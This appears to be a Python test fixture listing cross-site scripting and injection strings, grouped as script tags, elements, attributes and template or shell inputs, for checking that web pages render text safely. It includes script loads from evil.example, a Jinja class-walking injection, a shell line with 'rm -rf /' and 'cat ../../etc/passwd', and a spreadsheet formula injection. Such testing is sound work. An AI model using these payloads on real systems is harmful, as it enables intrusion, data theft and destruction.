"""Hostile texts for any field that holds words: each is welcome as text, and may do nothing on a page.

Every live one calls ``alert``, so that a hooked browser proves whether it ran. At most 104 characters, so that each
fits beside its marker in the shortest field but the house number; ``KORT`` is for that one.
"""

SCRIPTS = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt>alert(1)</sCrIpT>",
    "script with a space before its end": "<script >alert(1)</script\t>",
    "script with a slash": "<script/x>alert(1)</script>",
    "script never closed": "<script>alert(1)//",
    "script from elsewhere": "<script src=//evil.example/x.js></script>",
    "script within a word": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script behind a quote": '"><script>alert(1)</script>',
    "script behind an apostrophe": "'><script>alert(1)</script>",
    "script behind a title": "</title><script>alert(1)</script>",
    "script behind a textarea": "</textarea><script>alert(1)</script>",
    "script behind a template": "</template><script>alert(1)</script>",
    "script behind a style": "</style><script>alert(1)</script>",
    "script behind a script": "</script><script>alert(1)</script>",
    "script in a comment": "<!--<script>-->alert(1)<!--</script>-->",
    "script behind a comment": "--><script>alert(1)</script>",
    "script behind a bang": "--!><script>alert(1)</script>",
    "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "script in a noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
}

ELEMENTS = {
    "image": "<img src=x onerror=alert(1)>",
    "image without spaces": '<img/src="x"/onerror="alert(1)">',
    "image with a back quote": "<img src=`x`onerror=alert(1)>",
    "vector drawing": "<svg/onload=alert(1)>",
    "drawing with a script": "<svg><script>alert&#40;1)</script></svg>",
    "drawing with a link": "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "drawing that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "formula": "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "details": "<details open ontoggle=alert(1)>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "iframe": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "iframe with a script address": "<iframe src=javascript:alert(1)>",
    "object": "<object data=javascript:alert(1)>",
    "embed": "<embed src=data:text/html,<script>alert(1)</script>>",
    "base": "<base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "style sheet": "<style>@import'//evil.example/x.css';</style>",
    "style": "<p style=background:url(//evil.example/x)>",
    "form": "<form action=javascript:alert(1)><button>x",
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "link": '<a href="javascript:alert(1)">x</a>',
    "link with a ping": '<a href=/ ping=//evil.example/ onclick="alert(1)">x</a>',
    "video": "<video><source onerror=alert(1)></video>",
    "marquee": "<marquee onstart=alert(1)>",
    "element that does not exist": "<x onclick=alert(1) tabindex=1>x</x>",
    "body": "<body onload=alert(1)>",
    "plaintext": "<plaintext><img src=x onerror=alert(1)>",
    "template": "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "clobbering": "<form id=location name=cookie><input name=querySelector>",
}

ATTRIBUTES = {
    "quote": '" onmouseover="alert(1)',
    "quote and focus": '" autofocus onfocus=alert(1) x="',
    "apostrophe": "' onmouseover='alert(1)",
    "back quote": "` onmouseover=alert(1)",
    "no quote": "x onmouseover=alert(1)",
    "space and slash": 'x"/onmouseover=alert(1)//',
    "address": "javascript:alert(1)",
    "address in capitals": "JaVaScRiPt:alert(1)//https://x.example",
    "address of data": "data:text/html,<script>alert(1)</script>",
    "entities": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "entities by name": "&lt;img src=x onerror=alert(1)&gt;",
    "entity in an address": "&#106;avascript&colon;alert(1)",
    "entity half done": "&lt&lt;&#x3c&#0000060script&#x3e;alert(1)",
}

LANGUAGES = {
    "Jinja": "{{7*7}}{{ site.__class__.__mro__ }}",
    "Jinja statement": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "Jinja comment": "{# weg #}{%- raw -%}",
    "template text": "${alert(1)}${7*7}#{7*7}<%= 7*7 %>",
    "JavaScript text": "';alert(1);//\\';alert(1);//",
    "JavaScript text in quotes": '\\";alert(1);//',
    "JavaScript end of line": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "JSON": '"}],"@type":"x"}</script><script>alert(1)</script>',
    "JSON comment": "<!--<script>/*]]>*/alert(1)",
    "regular expression": "(a+)+$[.*?^${}()|\\]",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E %s %n %(x)s {0}",
    "shell": "$(touch x) `touch x` ; rm -rf / | cat ../../etc/passwd",
    "spreadsheet": '=HYPERLINK("https://evil.example";"x")+cmd|\' /C calc\'!A0',
    "prototype": "__proto__ constructor hasOwnProperty toString",
    "style text": "expression(alert(1));}body{background:url(javascript:alert(1))",
    "lines of a mail": "x Bcc: ieder@evil.example",
}

TEKSTEN = SCRIPTS | ELEMENTS | ATTRIBUTES | LANGUAGES
KORT = "<svg/onload=alert(1)>"
